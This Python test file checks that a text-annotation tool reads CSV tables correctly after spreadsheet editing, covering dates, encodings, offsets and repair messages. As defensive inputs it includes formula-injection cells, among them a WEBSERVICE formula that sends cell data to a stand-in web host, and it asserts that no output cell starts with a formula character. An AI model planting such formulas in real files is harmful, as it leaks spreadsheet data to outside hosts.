"""Tables as spreadsheets leave them: every dialect is read, what a program changed is undone and said, what a person got wrong is not."""

import csv
import re
import warnings

import pandas as pd
import pytest
from bounds import bounded
from correcting import TEXT, add, change
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some
from spreadsheets import DIALECTS, WAYS, same, table, write
from support import SLUG, edition_of, examples

from closereading.agreement import corrections
from closereading.common.errors import InputError, InputWarning
from closereading.edition import corrected_edition, loading, spreadsheet
from closereading.edition.format import COLUMNS
from closereading.workflow import annotate, begin


def test_the_article_of_the_book_needs_no_mending():
    assert corrected_edition.read_edition(SLUG)[1] == []
    with warnings.catch_warnings():
        warnings.simplefilter("error", InputWarning)
        loading.load(SLUG)


FAULTS = [
    ("1", None, None),
    (None, "1", None),
    ("-3", "4", None),
    ("1e400", "9", None),
    ("１２", "19", None),
    ("0", "99999", None),
    ("=1+1", "9", None),
    ("9" * 5000, "9", None),
    ("", "9", None),
    ("9", "", None),
    ("1.000", "9", None),
    (None, None, "=SUM(1,2)"),
    (None, None, "Someone"),
    ("5", "5", None),
]


@pytest.mark.parametrize("start, end, text", FAULTS)
def test_wrong_places_and_words_stay_faults(ballot_copy, start, end, text):
    rows = table(ballot_copy, "entities")
    rows[0].update({key: value for key, value in (("start", start), ("end", end), ("text", text)) if value is not None})
    write(ballot_copy, "entities", rows)
    with pytest.raises(InputError, match="entities.csv, row 2: ") as caught:
        edition_of(ballot_copy)
    assert all("to mend:" in line for line in str(caught.value).splitlines())


def test_a_span_one_off_is_a_fault_on_either_side_for_every_row(ballot_copy):
    """Wherever an offset is moved by one, no repair hides it."""
    rows = table(ballot_copy, "entities")
    for place, row in enumerate(rows):
        for name, by in (("start", -1), ("start", 1), ("end", -1), ("end", 1)):
            moved = [dict(one) for one in rows]
            moved[place][name] = str(int(row[name]) + by)
            write(ballot_copy, "entities", moved)
            with pytest.raises(InputError, match=f"row {place + 2}: .*(set start,end to|copy text|a whole number)"):
                edition_of(ballot_copy)


@pytest.mark.parametrize("name", COLUMNS)
def test_a_formula_in_any_column_is_text(ballot_copy, name):
    rows = table(ballot_copy, name)
    for column in rows[0] if rows else []:
        changed = [dict(one) for one in rows]
        changed[0][column] = '=WEBSERVICE("http://example.org/?"&A1)'
        write(ballot_copy, name, changed)
        try:
            loaded, _ = corrected_edition.read_edition(ballot_copy)
        except InputError as error:
            assert "row 2: found " in str(error) and "to mend:" in str(error)
        else:
            assert column in ("name", "entity", "scheme", "rule", "sentence"), column


def test_dates_and_errors_in_columns_of_words_are_undone_or_named(copy):
    path = copy / "entities.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("January 10,DATE,January 10", "10-Jan,DATE,10-Jan"), encoding="utf-8")
    loaded, notices = corrected_edition.read_edition(copy)
    assert loaded.entities[loaded.entities.id == "e100"][["text", "entity"]].values.tolist() == [
        ["January 10", "January 10"]
    ]
    assert len(notices) == 2 and all(
        "row 101" in line and "'10-Jan'" in line and "'January 10'" in line for line in notices
    )
    for cell, said in (("10-Jan", "a date"), ("#NAME?", "an error")):
        path.write_text(
            text.replace("several days,DATE,several days", f"several days,DATE,{cell}") if said == "a date" else text,
            encoding="utf-8",
        )
        if said == "an error":
            other = copy / "questions.csv"
            other.write_text(
                other.read_text(encoding="utf-8").replace("Are Russia or its interests in danger?", cell),
                encoding="utf-8",
            )
        with pytest.raises(
            InputError, match=f"found (entity|gloss) '{cell.replace('?', '.')}', as a spreadsheet writes {said}"
        ):
            edition_of(copy)


def test_a_date_that_a_person_chose_stays(copy):
    path = copy / "entities.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("January 10,DATE,January 10", "January 10,DATE,2022-01-10"),
        encoding="utf-8",
    )
    loaded, notices = corrected_edition.read_edition(copy)
    assert "2022-01-10" in set(loaded.entities.entity) and notices == []


def test_load_repairs_nothing(copy):
    path = copy / "sentences.csv"
    path.write_bytes(path.read_bytes().replace("’".encode(), b"'"))
    with pytest.raises(InputError, match=r"sentences.csv, row [0-9]+: found .*'.*; expected what stands there, .*’"):
        loading.load(copy)
    assert any(
        re.search("sentences.csv, row [0-9]+: found text .*taken: .*’", line)
        for line in corrected_edition.read_edition(copy)[1]
    )


def test_load_warns_of_a_file_in_another_character_set(copy):
    path = copy / "questions.csv"
    path.write_bytes(path.read_text(encoding="utf-8").replace("danger?", "dangér?").encode("cp1252"))
    with pytest.warns(InputWarning, match="questions.csv: found no UTF-8.*taken: Windows-1252"):
        assert "dangér?" in loading.load(copy).questions.gloss[0]


@pytest.mark.full
def test_a_long_file_is_read(tmp_path):
    words = " ".join(f"Name{number}" for number in range(100_000))
    path = tmp_path / "long.txt"
    path.write_text("Anna said that it rained.", encoding="utf-8")
    annotate.annotate([path], tmp_path / "to")
    folder = tmp_path / "to" / "long"
    rows, place = [], 0
    for number, word in enumerate(words.split()):
        rows.append(
            (
                f"e{number}",
                place,
                place + len(word),
                word.replace("Name", "Näme"),
                "PERSON",
                word,
                "",
                "readers",
                "certain",
                "known name",
            )
        )
        place += len(word) + 1
    path = folder / "entities.csv"
    pd.DataFrame(rows, columns=["id", *COLUMNS["entities"], "by", "certainty", "rule"]).to_csv(path, index=False)
    found = spreadsheet.read_table(path, ["id", *COLUMNS["entities"], "by", "certainty"], ["rule", "sentence"])
    assert len(found[0]) == 100_000
    assert "entities.csv, row 2: found 'Näme0'" in bounded(lambda: edition_of(folder))


@pytest.mark.full
def test_a_paragraph_longer_than_a_cell_may_be(tmp_path):
    path = tmp_path / "long.txt"
    path.write_text("Anna said that it rained and rained. " * 8_000, encoding="utf-8")
    ballot_copy = begin.begin(path)[0]
    rows = table_of(ballot_copy / "blocks.csv")
    assert len(rows[0]["text"]) > 131_072
    rows[0]["text"] = rows[0]["text"][:32_767]
    write(ballot_copy, "blocks", rows)
    loaded, notices = corrected_edition.read_edition(ballot_copy)
    (line,) = (line for line in notices if "blocks.csv" in line)
    assert "the end cut off" in line and loaded.blocks.text.iloc[0] == loaded.raw.strip()


def table_of(path):
    csv.field_size_limit(10**9)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@settings(max_examples=examples(25), deadline=None, suppress_health_check=list(HealthCheck))
@given(
    some.lists(
        some.sampled_from(
            [
                "“It rains,” said Zoë Łukasz.",
                "@nasa said that =1 is 2,000.",
                "On January 10 it rained in Kraków…",
                "-said no one — ever.",
                "TRUE, said Ms. May on May 5.",
                "'It is 1/2,' said Émile 😀.",
            ]
        ),
        min_size=1,
        max_size=5,
    ),
    some.sampled_from(WAYS[:-1]),
    some.sampled_from(sorted(DIALECTS)),
)
def test_any_edition_changed_by_a_spreadsheet_loads_as_it_was(tmp_path_factory, sentences, way, dialect):
    path = tmp_path_factory.mktemp("any") / "any.txt"
    path.write_text("\n".join(sentences), encoding="utf-8", newline="")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InputWarning)
        ballot_copy = begin.begin(path)[0]
        before = edition_of(ballot_copy)
        for name in COLUMNS:
            rows = table(ballot_copy, name)
            for row in rows:
                for column in ("text", "name", "entity", "role", "pronoun"):
                    if row.get(column):
                        row[column] = way(row[column])
            if rows:
                (ballot_copy / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
        same(edition_of(ballot_copy), before)


NEW = {"id": "e99", "type": "PERSON", "entity": "Anna Weiß", "certainty": "certain"}


def test_a_row_is_found_by_its_sentence_and_words(folder):
    keep = [row for row in table(folder, "entities") if row["sentence"] != "s3"]
    write(folder, "entities", keep)
    add(folder, "entities", **NEW | {"sentence": "s3", "text": " Anna "})
    loaded, notices = corrected_edition.read_edition(folder)
    row = loaded.entities.set_index("id").loc["e99"]
    assert (
        notices == [] and loaded.raw[row.start : row.end] == row.text == "Anna" and row.start == TEXT.index("Anna had")
    )
    assert (row.by, row.rule) == ("reader", "") and list(loaded.entities) == [
        "id",
        *COLUMNS["entities"],
        "by",
        "certainty",
        "rule",
    ]


@pytest.mark.parametrize(
    "text, words",
    [
        ("10-Jan", "January 10"),
        ("1/10/2022", "January 10"),
        ("2000 tons", None),
        ("2000", "2,000"),
        ('"it - the', "“it — the"),
        ("Wei?", "Weiß"),
    ],
)
def test_words_that_a_spreadsheet_changed_are_found(folder, text, words):
    sentence = "s3" if text[0] in '2"' else "s2"
    where = {"sentence": sentence, "text": text, "speaker": "narrator", "role": "claim", "certainty": "likely"}
    number = add(folder, "arguments", id="a99", **where)
    if words is None:
        with pytest.raises(InputError, match="arguments.csv, row .*'2000 tons', which is not in sentence s3"):
            edition_of(folder)
    else:
        loaded, (line,) = corrected_edition.read_edition(folder)
        assert loaded.arguments.set_index("id").text["a99"] == words
        assert f"arguments.csv, row {number}: found text" in line and words in line


@pytest.mark.parametrize(
    "cells, found",
    [
        (
            {"sentence": "s4", "text": "e"},
            "'e' [0-9]+ times in sentence s4.*copy more words, or fill in start and end: [0-9]+ to [0-9]+, [0-9]+ to [0-9]+",
        ),
        (
            {"sentence": "s2", "text": "wind"},
            "'wind', which is not in sentence s2; expected words of that sentence; to mend: it stands in s5",
        ),
        ({"sentence": "s2", "text": "whale"}, "'whale', which is not in sentence s2.*copy the words from the sentence"),
        (
            {"sentence": "s99", "text": "ferry"},
            "sentence 's99'; expected an id of sentences.csv, s1 to s5; to mend: write an id that is there",
        ),
        ({"sentence": "", "text": "ferry"}, "start, end and sentence blank"),
        ({"sentence": "s2", "text": ""}, "start, end and text blank"),
        ({"sentence": "s2", "text": "ferry", "start": "19"}, "end = ''"),
        ({"sentence": "s2", "text": "ferry", "end": "24"}, "start = ''.*leave start and end blank"),
        (
            {"sentence": "s2", "text": "ferry", "start": "20", "end": "25"},
            "'ferry' for 20,25.*set start,end to 19,24, or empty both cells",
        ),
        ({"sentence": "s2", "text": "#NAME?"}, "'#NAME.', which is not in"),
    ],
)
def test_a_row_that_cannot_be_found_says_how_to_mend_it(folder, cells, found):
    number = add(folder, "arguments", id="a99", speaker="narrator", role="claim", certainty="likely", **cells)
    with pytest.raises(InputError, match=rf"arguments.csv, row {number}: found {found}") as caught:
        edition_of(folder)
    assert len(str(caught.value).splitlines()) == 1


def test_all_faults_are_said_at_once(folder):
    for sentence in ("s98", "s99"):
        add(
            folder,
            "arguments",
            id=f"a{sentence}",
            sentence=sentence,
            text="ferry",
            speaker="narrator",
            role="claim",
            certainty="likely",
        )
    add(folder, "entities", **NEW | {"sentence": "s2", "text": "whale"})
    with pytest.raises(InputError) as caught:
        edition_of(folder)
    assert len(str(caught.value).splitlines()) == 3


def test_offsets_win_over_the_sentence(folder):
    change(folder, "entities", "e1", sentence="s5")
    loaded, (line,) = corrected_edition.read_edition(folder)
    assert "sentence 's5', in which" in line and "taken: start and end" in line
    assert corrections.changes(loaded, corrections.machine_version(folder)).empty


def test_only_three_tables_have_a_sentence(folder):
    rows = table(folder, "blocks")
    write(folder, "blocks", [row | {"sentence": "s1"} for row in rows])
    _, (line,) = corrected_edition.read_edition(folder)
    assert "blocks.csv, row 1: found 'sentence', which this table does not have; taken: a column of your own" in line


@pytest.mark.parametrize("name", ["@nasa", "=1+1", "'quoted'", "Łukasz Ünïcode", "true"])
def test_names_that_a_spreadsheet_would_run_stay_names(tmp_path, name):
    path = tmp_path / "name.txt"
    path.write_text(f"{name} said that it rained. Anna said that “{name} left”.", encoding="utf-8")
    folder = begin.begin(path)[0]
    loaded, notices = corrected_edition.read_edition(folder)
    assert notices == [] and corrections.changes(loaded, corrections.machine_version(folder)).empty
    for one in folder.glob("*.csv"):
        for row in csv.DictReader(one.open(encoding="utf-8-sig", newline="")):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
